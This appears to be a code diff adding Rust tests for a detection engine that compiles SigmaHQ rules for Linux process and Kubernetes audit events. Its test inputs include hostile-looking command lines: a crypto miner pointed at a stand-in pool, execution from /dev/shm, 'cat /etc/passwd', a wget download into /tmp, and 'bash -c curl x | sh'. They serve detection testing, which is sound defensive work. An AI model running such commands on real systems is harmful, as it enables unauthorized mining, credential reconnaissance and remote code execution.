@@ -885,3 +885,285 @@ fn detections_md_describes_every_builtin_rule() {
         }
     }
 }
+
+/// A SigmaHQ rule kept in `sigmahq/`, compiled.
+fn sigma(name: &str) -> Result<Vec<Rule>, String> {
+    let path = format!(
+        "{}/src/transforms/detect/sigmahq/{name}",
+        env!("CARGO_MANIFEST_DIR")
+    );
+    sigma::parse_file(name, &std::fs::read_to_string(&path).unwrap())
+}
+
+fn sigma_detector(names: &[&str]) -> Detector {
+    let rules = names.iter().flat_map(|n| sigma(n).unwrap()).collect();
+    Detector::with_rules(rules, 60, 1000)
+}
+
+#[test]
+fn sigmahq_rules_for_linux_fire_on_their_behaviour_and_not_on_normal_workloads() {
+    let mut d = sigma_detector(&[
+        "proc_creation_lnx_crypto_mining.yml",
+        "proc_creation_lnx_susp_exec_from_dev_shm.yml",
+        "proc_creation_lnx_local_account.yml",
+        "file_event_lnx_wget_download_file_in_tmp_dir.yml",
+    ]);
+    let id = |name: &str| {
+        format!(
+            "sigma.{}",
+            sigma(name).unwrap()[0].info.id.trim_start_matches("sigma.")
+        )
+    };
+    let miner = exec(
+        "/tmp/kworker",
+        &[
+            "kworker",
+            "-o",
+            "STRATUM+TCP://pool.example:443",
+            "--donate-level=0",
+        ],
+        "sh",
+        Default::default(),
+    );
+    assert_eq!(
+        fired(&mut d, &miner),
+        [id("proc_creation_lnx_crypto_mining.yml")]
+    );
+    let shm = exec("/dev/shm/.x", &["/dev/shm/.x"], "sh", Default::default());
+    assert_eq!(
+        fired(&mut d, &shm),
+        [id("proc_creation_lnx_susp_exec_from_dev_shm.yml")]
+    );
+    // `1 of selection*`: cat of /etc/passwd is selection_3.
+    let cat = exec(
+        "/bin/cat",
+        &["cat", "/etc/passwd"],
+        "bash",
+        Default::default(),
+    );
+    assert_eq!(
+        fired(&mut d, &cat),
+        [id("proc_creation_lnx_local_account.yml")]
+    );
+    let id_cmd = exec("/usr/bin/id", &["id"], "bash", Default::default());
+    assert_eq!(
+        fired(&mut d, &id_cmd),
+        [id("proc_creation_lnx_local_account.yml")]
+    );
+    let wget = file(
+        FileOperation::Open,
+        "/tmp/payload",
+        0o1101,
+        Some(0o644),
+        "/usr/bin/wget",
+    );
+    assert_eq!(
+        fired(&mut d, &wget),
+        [id("file_event_lnx_wget_download_file_in_tmp_dir.yml")]
+    );
+    // The same rules on ordinary events: quiet. Sigma matches without
+    // case: `/BIN/CAT /ETC/PASSWD` would match, `cat /etc/hosts` does not.
+    for e in quiet_kernel_events().iter().chain([
+        &exec(
+            "/bin/cat",
+            &["cat", "/etc/hosts"],
+            "bash",
+            Default::default(),
+        ),
+        &file(
+            FileOperation::Open,
+            "/var/tmp/x",
+            0o1101,
+            None,
+            "/usr/bin/curl",
+        ),
+    ]) {
+        assert!(
+            fired(&mut d, e).is_empty(),
+            "{}",
+            lumen_sinks::console::text_line(e)
+        );
+    }
+}
+
+#[test]
+fn sigmahq_rules_for_kubernetes_audit_fire_on_the_fixtures() {
+    let mut d = sigma_detector(&[
+        "kubernetes_audit_exec_into_container.yml",
+        "kubernetes_audit_hostpath_mount.yml",
+        "kubernetes_audit_secrets_enumeration.yml",
+        "kubernetes_audit_unauthorized_unauthenticated_actions.yml",
+        "kubernetes_audit_potential_enumeration_activity.yml",
+        "kubernetes_audit_privileged_pod_creation.yml",
+    ]);
+    let title = |e: &Event, d: &mut Detector| -> Vec<String> {
+        let mut out = Vec::new();
+        d.seen.clear();
+        d.inspect(&Arc::new(e.clone()), &mut out);
+        out.iter()
+            .map(|f| match &f.kind {
+                EventKind::Finding(f) => f.rule.title.clone(),
+                _ => unreachable!(),
+            })
+            .collect()
+    };
+    assert_eq!(
+        title(&audit(falco!("exec_pod.json")), &mut d),
+        ["Potential Remote Command Execution In Pod Container"]
+    );
+    // `hostPath: '*'`: a pod with a hostPath volume (the Sigma taxonomy's
+    // field over the pod spec).
+    assert_eq!(
+        title(
+            &audit(falco!("create_nginx_pod_sensitive_mount.json")),
+            &mut d
+        ),
+        ["Container With A hostPath Mount Created"]
+    );
+    assert!(title(
+        &audit(falco!("create_nginx_pod_unsensitive_mount.json")),
+        &mut d
+    )
+    .is_empty());
+    assert!(title(&audit(falco!("create_nginx_pod_unprivileged.json")), &mut d).is_empty());
+    let forbidden = edit(
+        falco!("create_secret.json"),
+        &[("\"code\":201", "\"code\":403")],
+    );
+    assert_eq!(
+        title(&audit(&forbidden), &mut d),
+        ["Kubernetes Unauthorized or Unauthenticated Access"]
+    );
+    for quiet in [
+        falco!("create_configmap.json"),
+        falco!("create_deployment.json"),
+    ] {
+        assert!(title(&audit(quiet), &mut d).is_empty(), "{quiet}");
+    }
+}
+
+#[test]
+fn sigma_rules_lumen_cannot_evaluate_are_refused_with_the_reason() {
+    for (name, says) in [
+        (
+            "net_connection_lnx_crypto_mining_indicators.yml",
+            "field `DestinationHostname` is not one Lumen has",
+        ),
+        (
+            "proc_creation_lnx_omigod_scx_runasprovider_executescript.yml",
+            "is not one Lumen has for this log source",
+        ),
+        ("lnx_auditd_binary_padding.yml", "is not one Lumen produces"),
+    ] {
+        let err = sigma(name).map(|_| ()).unwrap_err();
+        assert!(
+            err.starts_with(&format!("{name}:")) && err.contains(says),
+            "{err}"
+        );
+    }
+    let rule = |detection: &str| {
+        sigma::parse_file(
+            "r.yml",
+            &format!("title: t\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n{detection}"),
+        )
+        .map(|_| ())
+        .unwrap_err()
+    };
+    let cases = [
+        (
+            "  selection:\n    CommandLine|base64offset|contains: x\n  condition: selection\n",
+            "modifier `base64offset` is not supported",
+        ),
+        (
+            "  keywords:\n    - evil\n  condition: keywords\n",
+            "keyword searches",
+        ),
+        (
+            "  selection:\n    Image: /x\n  condition: selection | count() > 5\n",
+            "aggregations",
+        ),
+        (
+            "  selection:\n    Image: /x\n  condition: selectoin\n",
+            "no search is named `selectoin`",
+        ),
+        (
+            "  selection:\n    Image: /x\n  condition: (selection\n",
+            "not closed",
+        ),
+    ];
+    for (detection, says) in cases {
+        let err = rule(detection);
+        assert!(err.contains(says), "{err}");
+    }
+}
+
+#[test]
+fn sigma_conditions_and_modifiers_mean_what_sigma_says() {
+    let rules = sigma::parse_file(
+        "r.yml",
+        r"title: conditions
+id: 6a1c5e4e-0000-4000-8000-000000000001
+level: high
+tags:
+  - attack.execution
+  - attack.t1059.004
+logsource:
+  product: linux
+  category: process_creation
+detection:
+  selection_img:
+    Image|endswith:
+      - /bash
+      - /sh
+  selection_cli:
+    CommandLine|contains|all:
+      - ' -c '
+      - 'curl'
+  filter_parent:
+    ParentImage|startswith: '/usr/lib/systemd/'
+  filter_wild:
+    CommandLine: '*health\*check*'
+  condition: all of selection_* and not 1 of filter_*
+",
+    )
+    .unwrap();
+    assert_eq!(
+        rules[0].info.id,
+        "sigma.6a1c5e4e-0000-4000-8000-000000000001"
+    );
+    assert_eq!(rules[0].info.severity, lumen_schemas::event::Severity::High);
+    assert_eq!(rules[0].info.attacks[0].technique_id, "T1059.004");
+    assert_eq!(rules[0].info.ruleset, "sigma");
+    let mut d = Detector::with_rules(rules, 60, 100);
+    let run = |args: &[&str], parent: &str| {
+        exec(
+            &format!("/bin/{}", args[0]),
+            args,
+            parent,
+            Default::default(),
+        )
+    };
+    assert_eq!(
+        fired(&mut d, &run(&["bash", "-c", "curl x | sh"], "python3")).len(),
+        1
+    );
+    assert!(
+        fired(&mut d, &run(&["bash", "-c", "wget x"], "python3")).is_empty(),
+        "all of the strings"
+    );
+    assert!(
+        fired(&mut d, &run(&["zsh", "-c", "curl x"], "python3")).is_empty(),
+        "endswith /bash or /sh"
+    );
+    let mut systemd = run(&["sh", "-c", "curl x"], "python3");
+    if let EventKind::Process(p) = &mut systemd.kind {
+        p.process.parent.executable = push(&mut p.process.text, "/usr/lib/systemd/systemd");
+    }
+    assert!(fired(&mut d, &systemd).is_empty(), "the parent filter");
+    // `\*` is a literal star, `*` a wildcard.
+    assert!(fired(&mut d, &run(&["sh", "-c", "curl /health*check"], "python3")).is_empty());
+    assert_eq!(
+        fired(&mut d, &run(&["sh", "-c", "curl /healthcheck"], "python3")).len(),
+        1
+    );
+}
